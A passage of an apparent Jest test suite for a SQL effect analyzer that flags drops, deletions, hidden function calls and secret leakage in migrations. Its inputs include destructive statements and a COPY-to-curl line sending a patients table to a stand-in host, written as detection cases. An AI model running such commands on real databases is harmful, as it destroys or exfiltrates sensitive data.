BEGIN
  _new := NEW;
  _new."updated_at" = NOW();
  RETURN _new;
END;
$$ LANGUAGE plpgsql;
CREATE TRIGGER "set_public_patients_updated_at"
BEFORE UPDATE ON "public"."patients"
FOR EACH ROW
EXECUTE PROCEDURE "public"."set_current_timestamp_updated_at"();
COMMENT ON TRIGGER "set_public_patients_updated_at" ON "public"."patients"
IS 'trigger to set value of column "updated_at" to current timestamp on row update';`;

  const BODIES: Array<[sql: string, effects: string[]]> = [
    // ---- harmless bodies stay additions ----
    ['CREATE FUNCTION add(a int, b int) RETURNS int LANGUAGE sql IMMUTABLE AS $$ SELECT a + b $$', ['add:function add']],
    ['CREATE FUNCTION n() RETURNS bigint LANGUAGE sql AS $$ SELECT count(*) FROM patients $$', ['add:function n', 'read:table patients [in function n]']],
    ['CREATE FUNCTION h() RETURNS int RETURN abs(-1)', ['add:function h']],
    [updatedAt('CREATE FUNCTION'), ['add:function public.set_current_timestamp_updated_at', 'add:trigger set_public_patients_updated_at on public.patients', 'comment:trigger set_public_patients_updated_at on public.patients']],
    // OR REPLACE overwrites a function that may exist (and that triggers, policies or Hasura may use): confirmed, as before.
    [updatedAt('CREATE OR REPLACE FUNCTION'), ['replace:function public.set_current_timestamp_updated_at', 'add:trigger set_public_patients_updated_at on public.patients', 'comment:trigger set_public_patients_updated_at on public.patients']],
    // ---- SQL bodies ----
    ["CREATE FUNCTION wipe() RETURNS void LANGUAGE sql AS 'DROP TABLE patients'", ['add:function wipe', 'drop:table patients [in function wipe]']],
    ['CREATE FUNCTION g() RETURNS int BEGIN ATOMIC SELECT 1; DELETE FROM t; END', ['add:function g', 'delete:all_rows t [every row, in function g]']],
    ['CREATE FUNCTION h() RETURNS int RETURN evil(1)', ['add:function h', `run:function evil [${RUNS}, in function h]`]],
    ['CREATE PROCEDURE p() LANGUAGE sql AS $$ TRUNCATE patients $$', ['add:function p [procedure]', 'delete:all_rows patients [every row, in procedure p]']],
    ["CREATE FUNCTION bad() RETURNS int LANGUAGE sql AS 'SELEC 1'", ['add:function bad', 'unknown:sql [does not parse: syntax error at or near "SELEC", in function bad]']],
    // ---- PL/pgSQL bodies: every statement and expression ----
    ['CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN DROP TABLE patients; END $$', ['add:function f', 'drop:table patients [in function f]']],
    ['CREATE FUNCTION f(id int) RETURNS void LANGUAGE plpgsql AS $$ BEGIN PERFORM archive(id); END $$', ['add:function f', `run:function archive [${RUNS}, in function f]`]],
    ['CREATE FUNCTION f(k int) RETURNS void LANGUAGE plpgsql AS $$ BEGIN IF k > 1 THEN DELETE FROM a WHERE id = k; END IF; END $$', ['add:function f', 'delete:rows a [in function f]']],
    ['CREATE FUNCTION f() RETURNS SETOF int LANGUAGE plpgsql AS $$ BEGIN RETURN QUERY SELECT id FROM t; END $$', ['add:function f', 'read:table t [in function f]']],
    ['CREATE FUNCTION f() RETURNS int LANGUAGE plpgsql AS $$ DECLARE n int := seed(); BEGIN RETURN n; END $$', ['add:function f', `run:function seed [${RUNS}, in function f]`]],
    ['CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ DECLARE c CURSOR FOR SELECT evil(); BEGIN OPEN c; END $$', ['add:function f', `run:function evil [${RUNS}, in function f]`]],
    ['CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ DECLARE a int[]; BEGIN a[pick(1)] := 2; END $$', ['add:function f', `run:function pick [${RUNS}, in function f]`]],
    ['CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN WHILE more() LOOP CALL step(); END LOOP; END $$', ['add:function f', `run:function more [${RUNS}, in function f]`, `run:function step [procedure, ${RUNS}, in function f]`]],
    ['CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN NULL; EXCEPTION WHEN others THEN DELETE FROM log; END $$', ['add:function f', 'delete:all_rows log [every row, in function f]']],
    // EXECUTE of a constant is that SQL; of a computed string, SQL known only when it runs.
    ["CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN EXECUTE 'TRUNCATE patients'; END $$", ['add:function f', 'delete:all_rows patients [every row, in function f]']],
    ["CREATE FUNCTION f(t text) RETURNS void LANGUAGE plpgsql AS $$ BEGIN EXECUTE format('DROP TABLE %I', t); END $$", ['add:function f', `run:sql [${DYNAMIC}, in function f]`]],
    ["CREATE FUNCTION f(t text) RETURNS SETOF record LANGUAGE plpgsql AS $$ BEGIN RETURN QUERY EXECUTE 'SELECT * FROM ' || t; END $$", ['add:function f', `run:sql [${DYNAMIC}, in function f]`]],
    // A function whose body creates a function whose body drops: read all the way down.
    ["CREATE FUNCTION outer_f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN EXECUTE 'CREATE FUNCTION inner_f() RETURNS void LANGUAGE sql AS ''DROP TABLE patients'''; END $$", ['add:function outer_f', 'add:function inner_f [in function outer_f]', 'drop:table patients [in function inner_f, in function outer_f]']],
    // Statement positions are bytes: a non-ASCII name before the body must not shift the text the parser is given.
    ["SELECT 'é'; CREATE FUNCTION é() RETURNS void LANGUAGE plpgsql AS $$ BEGIN DROP TABLE patients; END $$", ['read:sql', 'add:function é', 'drop:table patients [in function é]']],
    // ---- bodies that cannot be read ----
    ['CREATE FUNCTION py() RETURNS int LANGUAGE plpython3u AS $$ import os $$', ['add:function py', 'run:function py [language plpython3u: its body is not read, its effect is not known, in function py]']],
    ["CREATE FUNCTION c() RETURNS int AS 'lib.so', 'sym' LANGUAGE c", ['add:function c', 'run:function c [language c: its body is not read, its effect is not known, in function c]']],
    ['CREATE FUNCTION f() RETURNS int LANGUAGE plpgsql AS $$ BEGIN DROP TABLE x END $$', ['add:function f', 'unknown:function f [PL/pgSQL body does not parse: unexpected end of function definition at end of input, in function f]']],
    ["CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql SECURITY DEFINER AS $$ BEGIN NULL; END $$", ['add:function f', "grant:function f [SECURITY DEFINER: runs with its owner's rights for whoever may call it]"]],
  ];

  it.each(BODIES)('%s', (sql, expected) => {
    expect(lines(sql)).toEqual(expected);
  });
});

describe('analyzeSql: objects that run code later', () => {
  const CODE: Array<[sql: string, effects: string[]]> = [
    ['CREATE TABLE t (a int DEFAULT f(), b int CHECK (ok(b)), c int GENERATED ALWAYS AS (g(a)) STORED)', ['add:table t', `run:function f [${LATER}]`, `run:function ok [${LATER}]`, `run:function g [${LATER}]`]],
    // What a serial column or a hand-written sequence default does; known-free functions are no code either.
    ["CREATE TABLE t (id int DEFAULT nextval('t_id_seq'), at timestamptz DEFAULT now(), u uuid DEFAULT gen_random_uuid())", ['add:table t']],
    ['CREATE VIEW v AS SELECT count(*), lower(name) FROM patients', ['add:view v']],
    ['CREATE DOMAIN d AS int CHECK (valid(VALUE))', ['add:type d [domain]', `run:function valid [${LATER}]`]],
    ['CREATE TRIGGER t BEFORE INSERT ON p FOR EACH ROW WHEN (cond(NEW.a)) EXECUTE FUNCTION f()', ['add:trigger t on p', `run:function f [by trigger t on p, ${LATER}]`, `run:function cond [${LATER}]`]],
    // A trigger on a function the same SQL creates without parameters: its body was read where it was created.
    ['CREATE FUNCTION f() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN RETURN NEW; END $$; CREATE TRIGGER t BEFORE INSERT ON p FOR EACH ROW EXECUTE FUNCTION f()', ['add:function f', 'add:trigger t on p']],
    // ...but not one with parameters, nor one in another schema: another function may be the one called.
    ['CREATE FUNCTION f(a int) RETURNS int LANGUAGE sql AS $$ SELECT a $$; CREATE TRIGGER t BEFORE INSERT ON p FOR EACH ROW EXECUTE FUNCTION f()', ['add:function f', 'add:trigger t on p', `run:function f [by trigger t on p, ${LATER}]`]],
    ['CREATE FUNCTION f() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN RETURN NEW; END $$; CREATE TRIGGER t BEFORE INSERT ON p FOR EACH ROW EXECUTE FUNCTION s.f()', ['add:function f', 'add:trigger t on p', `run:function s.f [by trigger t on p, ${LATER}]`]],
    ['CREATE RULE r AS ON INSERT TO tmp DO ALSO DELETE FROM patients', ['add:unknown r on tmp [rule]', 'delete:all_rows patients [every row, in rule r on tmp]']],
    ['CREATE RULE r AS ON INSERT TO t WHERE keep(NEW.a) DO ALSO INSERT INTO log VALUES (NEW.a)', ['add:unknown r on t [rule]', 'add:rows log [in rule r on t]', `run:function keep [${LATER}]`]],
    ['CREATE OPERATOR === (FUNCTION = f, LEFTARG = int, RIGHTARG = int, RESTRICT = eqsel)', ['add:unknown === [operator]', `run:function f [by operator ===, ${LATER}]`]],
    ['CREATE CAST (int AS text) WITH FUNCTION f(int)', ['add:unknown [cast]', `run:function f [by cast, ${LATER}]`]],
    ['CREATE CAST (int AS text) WITH INOUT', ['add:unknown [cast]']],
    ['CREATE FOREIGN DATA WRAPPER w HANDLER h', ['add:unknown w [foreign data wrapper]', `run:function h [by foreign data wrapper w, ${LATER}]`]],
    ['CREATE LANGUAGE l HANDLER lh', ['add:unknown l [language]', `run:function lh [by language l, ${LATER}]`]],
    ['CREATE USER MAPPING FOR app SERVER remote', ['grant:unknown for app on server remote [user mapping]']],
  ];

  it.each(CODE)('%s', (sql, expected) => {
    expect(lines(sql)).toEqual(expected);
  });
});

describe('analyzeSql: no literal in any effect', () => {
  // Effects name objects, never values: they go to held answers, the confirm page and the audit log.
  const SECRET = 'sk_live_51Hx0SecretValue';
  const SQL = [
    `SET app.key = '${SECRET}'`,
    `SET LOCAL statement_timeout = '${SECRET}'`,
    `SELECT set_config('app.key', '${SECRET}', false)`,
    `COPY patients TO PROGRAM 'curl -H "Authorization: Bearer ${SECRET}" https://x.example'`,
    `ALTER ROLE app PASSWORD '${SECRET}'`,
    `CREATE ROLE app LOGIN PASSWORD '${SECRET}' VALID UNTIL '${SECRET}'`,
    `CREATE USER MAPPING FOR app SERVER remote OPTIONS (user 'app', password '${SECRET}')`,
    `CREATE SERVER remote FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host '${SECRET}', dbname 'x')`,
    `SELECT dblink_exec('host=db password=${SECRET}', 'DROP TABLE t')`,
    `LOAD '${SECRET}'`,
    `SELECT '${SECRET}`, // does not parse: the parser quotes the rest of the text
    `SELECT '${SECRET}' '${SECRET}' x`,
    `SELECT $$${SECRET}`,
    `CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN RAISE NOTICE '${SECRET}' 'x'; END $$`,
    `CREATE FUNCTION f() RETURNS void LANGUAGE sql AS $$ SELECT '${SECRET}' '${SECRET}' x $$`,
    `CREATE TRIGGER t BEFORE INSERT ON p FOR EACH ROW EXECUTE FUNCTION f('${SECRET}')`,
    `COMMENT ON TABLE t IS '${SECRET}'`,
  ];

  it.each(SQL)('%s', (sql) => {
    const effects = analyzeSql(sql);
    expect(effects.length).toBeGreaterThan(0);
    expect(JSON.stringify(effects)).not.toContain('sk_live');
    expect(describeEffects(effects, 100)).not.toContain('sk_live');
  });
});
